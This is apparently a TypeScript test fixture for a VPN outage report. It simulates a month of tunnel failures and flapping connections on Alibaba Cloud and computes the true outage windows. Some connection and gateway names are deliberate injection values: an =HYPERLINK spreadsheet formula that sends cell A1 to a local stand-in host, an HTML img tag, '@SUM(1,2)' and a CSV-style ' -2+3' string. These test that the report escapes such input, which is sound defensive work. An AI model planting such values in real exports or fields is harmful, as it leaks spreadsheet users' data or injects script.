import type { Simulator } from 'alicloud-vpn-monitor/testing';
import { createSimulator } from 'alicloud-vpn-monitor/testing';

const MINUTE = 60_000;
const HOUR = 60 * MINUTE;
const DAY = 24 * HOUR;

/** October 2026 in UTC+8. */
export const month = {
  from: Date.parse('2026-10-01T00:00:00+08:00'),
  to: Date.parse('2026-11-01T00:00:00+08:00'),
  offset: '+08:00',
} as const;
/** When the report is made: ten minutes into the next month. */
export const reportedAt = month.to + 10 * MINUTE;

/** An account whose October has outages of every kind, and names that are meant to break a report. */
export function simulatedMonth(): Simulator {
  const { from, to } = month;
  const cloud = createSimulator({
    regionId: 'cn-hangzhou',
    now: reportedAt,
    data: { missing: 0.01 },
    gateways: [
      { id: 'vpn-1', name: 'edge' },
      { id: 'vpn-2', name: ' -2+3, "安静"' },
    ],
    connections: [
      { id: 'vco-berlin', name: 'Berlin', gatewayId: 'vpn-1', tunnels: [{ id: 'tun-berlin-1' }, { id: 'tun-berlin-2' }] },
      { id: 'vco-paris', name: '<img src="http://127.0.0.1:9/paris.png">', gatewayId: 'vpn-1', mode: 'single' },
      {
        id: 'vco-quiet',
        name: '=HYPERLINK("http://127.0.0.1:9/?"&A1,"open")',
        gatewayId: 'vpn-2',
        tunnels: [{ id: 'tun-quiet-1' }, { id: 'tun-quiet-2' }],
      },
      {
        id: 'vco-new',
        name: '@SUM(1,2)',
        transitRouterId: 'tr-1',
        since: from + 10 * DAY,
        tunnels: [{ id: 'tun-new-1' }, { id: 'tun-new-2' }],
      },
    ],
  });
  cloud
    .tunnel('tun-berlin-1')
    .down({ at: from - 2 * HOUR })
    .up({ at: from + 3 * HOUR });
  cloud
    .tunnel('tun-berlin-1')
    .down({ at: from + 5 * DAY + 37_000 })
    .up({ at: from + 5 * DAY + 12 * MINUTE });
  cloud
    .tunnel('tun-berlin-1')
    .down({ at: from + 20 * DAY })
    .up({ at: from + 22 * DAY });
  cloud
    .tunnel('tun-berlin-2')
    .down({ at: from + 21 * DAY })
    .up({ at: from + 21 * DAY + 9 * HOUR });
  cloud.tunnel('tun-berlin-2').down({ at: to - 40 * MINUTE });
  cloud
    .connection('vco-paris')
    .down({ at: from + 8 * DAY, phase: 'phase2' })
    .up({ at: from + 8 * DAY + 17_000 });
  cloud.connection('vco-paris').flap({ every: '7m', times: 20, at: from + 15 * DAY });
  return cloud;
}

/** When a tunnel, or a single-tunnel connection, was really down within the month. */
export function trueOutages(cloud: Simulator, id: string): { readonly from: number; readonly to: number | undefined }[] {
  const outages: { from: number; to: number | undefined }[] = [];
  for (const { at, aspect, to } of cloud.truth.transitions(id)) {
    if (aspect !== 'ipsec') continue;
    const last = outages.at(-1);
    if (to === 'down') outages.push({ from: at, to: undefined });
    else if (last) last.to = at;
  }
  return outages
    .filter((outage) => outage.from < month.to && (outage.to ?? Infinity) > month.from)
    .map((outage) => ({
      from: Math.max(outage.from, month.from),
      to: outage.to !== undefined && outage.to <= month.to ? outage.to : undefined,
    }));
}
